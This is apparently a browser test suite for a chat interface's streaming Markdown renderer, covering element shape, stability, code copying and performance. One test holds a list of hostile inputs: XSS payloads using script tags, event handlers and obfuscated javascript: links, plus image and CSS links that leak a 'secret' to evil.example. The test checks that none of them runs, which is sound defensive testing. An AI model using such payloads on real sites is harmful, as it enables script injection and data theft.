"""Answers as Markdown, in chromium against a real node: what it becomes, that it only grows, and what it may not do."""

import asyncio
import random

import pytest
from playwright.async_api import Browser, expect

from tests.browser.behind import serving
from tests.browser.chromium import Tab, person, tab
from tests.servers import Script

# The answer's elements, without what is only for looks.
SHAPE = """() => {
  const shape = (node) => {
    if (node.nodeType === Node.TEXT_NODE) return node.data;
    if (node.matches(".code-head")) return "";
    const text = node.textContent;
    if (node.matches("pre")) return `<pre>${node.querySelector("code") ? `<code>${text}</code>` : text}</pre>`;
    const inner = [...node.childNodes].map(shape).join("");
    const name = node.localName;
    const href = node.getAttribute("href");
    return `<${name}${href ? ` ${href}` : ""}${node.checked ? " checked" : ""}>${inner}</${name}>`;
  };
  return [...document.querySelector(".markdown").childNodes].map(shape).join("");
}"""
EVERYTHING = """# Title

A *word*, a **strong *one* more**, ~~gone~~, `code`, snake_case_name and 2 * 3.
Next line with [a link](https://example.org/a?b=c) and https://example.org/raw.

- one
- two
  - nested
3. three

- [x] done

> quoted

| a | b |
|---|:-:|
| 1 | `x|y` |
| *2 | 3

---

$$
x^2
$$
And $y_1$, but $HOME is none. \\(z\\)

[1] is no link, nor [this](nothing
So it goes on ![alt](https://example.org/i.png) *open

```python
def f(x):
    return "<b>"
```
end"""
SHAPED = (
    "<h4>Title</h4><p>A <em>word</em>, a <strong>strong <em>one</em> more</strong>, <s>gone</s>, <code>code</code>, "
    "snake_case_name and 2 * 3.<br></br>Next line with <a https://example.org/a?b=c>a link</a> and "
    "<a https://example.org/raw>https://example.org/raw</a>.</p>"
    "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul><ol><li>three</li></ol>"
    "<ul><li><input checked></input> done</li></ul><blockquote><p>quoted</p></blockquote>"
    "<div><table><thead><tr><th> a </th><th> b </th></tr></thead><tbody><tr><td> 1 </td><td> <code>x|y</code> </td>"
    "</tr><tr><td> *2 </td><td> 3</td></tr></tbody></table></div><hr></hr><p><pre>$$\nx^2\n$$</pre><br></br>"
    "And <code>$y_1$</code>, but <code>$HOME is none. \\(z\\)</code></p>"
    "<p>[1] is no link, nor [this](nothing<br></br>So it goes on <a https://example.org/i.png>alt</a> *open</p>"
    '<div><pre><code>def f(x):\n    return "<b>"</code></pre></div><p>end</p>'
)
HOSTILE = (
    "<script>window.harmed = 1</script>",
    "<img src='https://evil.example/a.png' onerror='window.harmed = 2'>",
    "<svg onload='window.harmed = 3'><a href='javascript:window.harmed = 4'>x</a></svg>",
    "![leak](https://evil.example/leak?q=secret)",
    '![](https://evil.example/b.png "title")',
    "[click](javascript:window.harmed=5)",
    "[click](JaVaScRiPt:window.harmed=6)",
    "[click](java\tscript:window.harmed=7)",
    "[click](data:text/html,<script>window.harmed=8</script>)",
    "[click](vbscript:x)",
    "[click](//evil.example/x)",
    "[click](<javascript:window.harmed=9>)",
    "[![x](javascript:window.harmed=10)](javascript:window.harmed=11)",
    "<iframe src=https://evil.example></iframe><link rel=stylesheet href=https://evil.example/c.css>",
    "<style>@import 'https://evil.example/d.css'; body { display: none }</style>",
    "`<img src=x onerror=window.harmed=12>`",
    "```html\n<script>window.harmed = 13</script><img src=https://evil.example/e.png>\n```",
    '```"><img src=x onerror=window.harmed=14>\nx\n```',
    "harmless \u202etxt.exe \u2066 and on",
    ">" * 3000 + " deep",
    "- " * 500 + "deep",
    "[" * 500 + "x" + "](https://evil.example)" * 500,
)
MARK = """(blocks) => { window.marked = [...document.querySelector(".markdown").children].slice(0, blocks); }"""
SAME = """() => {
  const now = [...document.querySelector(".markdown").children];
  return window.marked.map((block, place) => block === now[place]);
}"""
SELECT = """() => {
  const text = document.querySelector(".markdown p").firstChild;
  getSelection().setBaseAndExtent(text, 6, text, 15);
  return getSelection().toString();
}"""
WRITTEN = """(length) => document.querySelector(".markdown")?.source.length >= length"""
WATCH_TASKS = """() => {
  window.tasks = [];
  new PerformanceObserver((list) => window.tasks.push(...list.getEntries().map((task) => Math.round(task.duration))))
    .observe({ type: "longtask" });
}"""
ANEW = """async (texts) => {
  const { Text } = await import("/static/js/view/text.js");
  const text = new Text(document.createElement("div"));
  return texts.map((shown, place) => {
    text.show(shown, { over: place === texts.length - 1 });
    return text.element.innerHTML;
  });
}"""
PIECEWISE = """async ([text, sizes]) => {
  const { Text } = await import("/static/js/view/text.js");
  const frame = () => new Promise(requestAnimationFrame);
  const shown = async (steps) => {
    const one = new Text(document.body.appendChild(document.createElement("div")));
    for (const to of steps) one.show(text.slice(0, to), { over: to === text.length });
    while (one.isBehind) await frame();
    one.element.remove();
    for (const code of one.element.querySelectorAll("pre code")) code.textContent = code.textContent;
    return one.element.innerHTML;
  };
  const steps = [];
  for (let at = 0, turn = 0; at < text.length; turn += 1) {
    at = Math.min(text.length, at + sizes[turn % sizes.length]);
    if (/[\\ud800-\\udbff]/.test(text[at - 1])) at += 1;
    steps.push(at);
  }
  const [whole, pieces] = [await shown([text.length]), await shown(steps)];
  return [whole === pieces, whole.length];
}"""
MARKUP = """() => {
  try { document.createElement("div").innerHTML = "<b>"; } catch (error) { return error.name; }
}"""
OUT_OF_FLOW = """() => [...document.querySelectorAll(".markdown :is(p, .more)")].filter((one, place, all) => {
  const [box, first] = [one, all[0]].map((each) => each.getBoundingClientRect());
  const isBelow = !place || box.top >= all[place - 1].getBoundingClientRect().top;
  const isAligned = box.left === first.left && box.width === first.width;
  return getComputedStyle(one).position !== "static" || !isAligned || !isBelow;
}).map((one) => one.outerHTML.slice(0, 60))"""
SLOW_MS = 250  # two busy cores; alone it is about 60
ROWS = "".join(f"| row {number} | `{number}` | text {number} |\n" for number in range(2000))
TABLE = f"| name | value | and *more* |\n|---|---|---|\n{ROWS}"
MIXED = f"{EVERYTHING}\n\n" * 300

pytestmark = pytest.mark.asyncio(loop_scope="session")


def pieces(text: str, size: int = 3) -> list[str]:
    """Cut `text` as a model does: anywhere."""
    return [text[at : at + size] for at in range(0, len(text), size)]


async def ask(here: Tab, text: str = "Tell me.") -> None:
    """Say something, and wait until its answer is over."""
    await here.say(text)
    await expect(here.answers.last).to_have_attribute("data-state", "done")


@pytest.mark.parametrize("size", [1, 3, 10_000])
async def test_markdown_becomes_elements(browser: Browser, redis_url: str, model: Script, size: int) -> None:
    """The same ones, in whatever pieces it came."""
    model.answers.append(pieces(EVERYTHING, size))
    async with serving(redis_url, model, flush_ms=1) as node, person(browser) as ada, tab(ada, node.http) as here:
        await ask(here)
        assert await here.page.evaluate(SHAPE) == SHAPED


async def test_what_is_finished_stays(
    browser: Browser, redis_url: str, model: Script, steps: asyncio.Semaphore
) -> None:
    """The same elements from when they were written to the end, and what one selected in them stays selected."""
    model.answers.append(["Here is some text.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n", *pieces(EVERYTHING, 40)])
    async with serving(redis_url, model, flush_ms=1) as node, person(browser) as ada, tab(ada, node.http) as here:
        await here.say("Tell me.")
        steps.release()
        await expect(here.answers.locator(".markdown > *")).to_have_count(2)
        await here.page.evaluate(MARK, 2)
        assert await here.page.evaluate(SELECT) == "s some te"
        for _ in model.answers or pieces(EVERYTHING, 40):
            steps.release()
        await expect(here.answers).to_have_attribute("data-state", "done")
        assert await here.page.evaluate(SAME) == [True, True]
        assert await here.page.evaluate("getSelection().toString()") == "s some te"


async def test_code_gets_its_colours_when_it_is_finished_and_is_copied(
    browser: Browser, redis_url: str, model: Script, steps: asyncio.Semaphore
) -> None:
    """Not before; its text is to the letter the same, in the page and on the clipboard."""
    code = 'def f(x: int) -> str:\n    """<b>&amp;"""\n    return f"{x}"  # 1'
    model.answers.append([f"```python\n{code}\n", "```\nThat", " is it."])
    async with serving(redis_url, model, flush_ms=1) as node, person(browser) as ada, tab(ada, node.http) as here:
        await ada.grant_permissions(["clipboard-read", "clipboard-write"])
        await here.say("Tell me.")
        shown = here.answers.locator("pre code")
        steps.release()
        await expect(shown).to_contain_text("# 1")
        assert await shown.locator("span").count() == 0
        steps.release()
        await expect(shown.locator(".hljs-keyword").first).to_have_text("def")
        await expect(shown).to_have_js_property("textContent", code)
        await here.button("Copy the code").click()
        await expect(here.button("Copy the code")).to_have_text("Copied")
        assert await here.page.evaluate("navigator.clipboard.readText()") == code
        steps.release()
        await expect(here.answers).to_have_attribute("data-state", "done")


async def test_an_answer_that_begins_anew_is_shown_anew(browser: Browser, redis_url: str, model: Script) -> None:
    """Nothing of the first try is left, neither its open list nor its emphasis; one that grew on is the same text."""
    async with serving(redis_url, model) as node, person(browser) as ada, tab(ada, node.http) as here:
        shown = await here.page.evaluate(ANEW, ["- **ab", "Fresh *te", "Fresh *text*.", "Fresh *text*.\n\n> More"])
        assert shown == [
            '<ul dir="ltr"><li dir="ltr"><strong>a</strong></li></ul>',
            '<p dir="ltr">Fresh <em>t</em></p>',
            '<p dir="ltr">Fresh <em>text</em></p>',
            '<p dir="ltr">Fresh <em>text</em>.</p><blockquote dir="ltr"><p dir="ltr">More</p></blockquote>',
        ]


async def test_hostile_markdown_runs_nothing_and_asks_nobody(browser: Browser, redis_url: str, model: Script) -> None:
    """Neither a script nor an address outside; the only links are to where a click may go."""
    for hostile in HOSTILE:
        model.answers.append([hostile])
    model.answers.append(pieces("\n\n".join(HOSTILE), 50))
    asked: list[str] = []
    dialogs: list[str] = []
    async with serving(redis_url, model, flush_ms=1) as node, person(browser) as ada, tab(ada, node.http) as here:
        here.page.on("request", lambda request: asked.append(request.url))
        here.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        for number in range(len(HOSTILE) + 1):
            await here.say(f"Number {number}.")
            await expect(here.answers).to_have_count(number + 1)
            await expect(here.answers.last).to_have_attribute("data-state", "done")
        assert [url for url in asked if not url.startswith(node.http)] == []
        assert (dialogs, await here.page.evaluate("window.harmed")) == ([], None)
        await expect(
            here.page.locator("#turns :is(img, svg, iframe, script, style, link, object, form)")
        ).to_have_count(0)
        links = await here.page.locator(".markdown a[href]").evaluate_all(
            "(links) => links.map(({ protocol, rel, target }) => `${protocol} ${rel} ${target}`)"
        )
        assert set(links) == {"https: noopener noreferrer nofollow _blank"}
        handlers = "(all) => all.flatMap((one) => one.getAttributeNames()).filter((name) => name.startsWith('on'))"
        assert await here.page.locator(".markdown *").evaluate_all(handlers) == []


async def test_whatever_the_pieces_the_elements_are_the_same(browser: Browser, redis_url: str, model: Script) -> None:
    """Of long paragraphs, long lines, hostile ones and everything else, written in slices or as it was streamed."""
    chance = random.Random(10)
    corpus = [
        EVERYTHING * 20,
        "\n\n".join(HOSTILE),
        "word *a* _b_ " * 900,
        "a line of it\n" * 900,
        "x" * 20_000,
        "$a " * 4000,
    ]
    corpus += [
        "`" * 9000,
        "> a\n" * 3000,
        "- [a](b" * 3000,
        "http://" + "a" * 5000,
        "\u0627 \U0001f600" * 4000,
        TABLE[:9000],
    ]
    async with serving(redis_url, model) as node, person(browser) as ada, tab(ada, node.http) as here:
        for text in corpus:
            sizes = [chance.choice((1, 13, 170, 600, 5000)) for _ in range(97)]
            same, length = await here.page.evaluate(PIECEWISE, [text, sizes])
            assert (same, length > 0) == (True, True), (text[:40], sizes)


async def test_no_markup_becomes_elements(browser: Browser, redis_url: str, model: Script) -> None:
    """The page itself cannot, whoever runs in it: `innerHTML` throws."""
    async with (
        serving(redis_url, model) as node,
        person(browser) as ada,
        tab(ada, node.http, excused="Trusted|CSP") as here,
    ):
        assert await here.page.evaluate(MARKUP) == "TypeError"


async def test_a_long_paragraph_goes_on_where_it_stood(browser: Browser, redis_url: str, model: Script) -> None:
    """In blocks of its own, one under the other, each as wide as the others: nothing else of the page styles them."""
    model.answers.append(["word " * 4_000 + "\n" + "line \n" * 2_000 + "end."])
    async with serving(redis_url, model) as node, person(browser) as ada, tab(ada, node.http) as here:
        await ask(here)
        await expect(here.answers.locator(".more").first).to_be_attached()
        await expect(here.answers.locator(".text")).to_contain_text("end.")
        assert await here.page.evaluate(OUT_OF_FLOW) == []


@pytest.mark.alone
@pytest.mark.parametrize("long", [TABLE, MIXED], ids=["table", "mixed"])
async def test_a_long_answer_does_not_hold_up_the_page(
    browser: Browser, redis_url: str, model: Script, long: str
) -> None:
    """Its last part comes as fast as a model writes, and hardly a task takes longer than a person notices."""
    model.answers.append([long, *(step for piece in pieces(long[:2400], 20) for step in (piece, 0.02))])
    async with serving(redis_url, model) as node, person(browser) as ada, tab(ada, node.http) as here:
        await here.say("Tell me.")
        await here.page.wait_for_function(WRITTEN, arg=len(long))
        await here.page.evaluate(WATCH_TASKS)
        await expect(here.answers).to_have_attribute("data-state", "done")
        tasks = await here.page.evaluate("window.tasks")
        assert len(tasks) <= 5, tasks
        assert max(tasks, default=0) < SLOW_MS, tasks
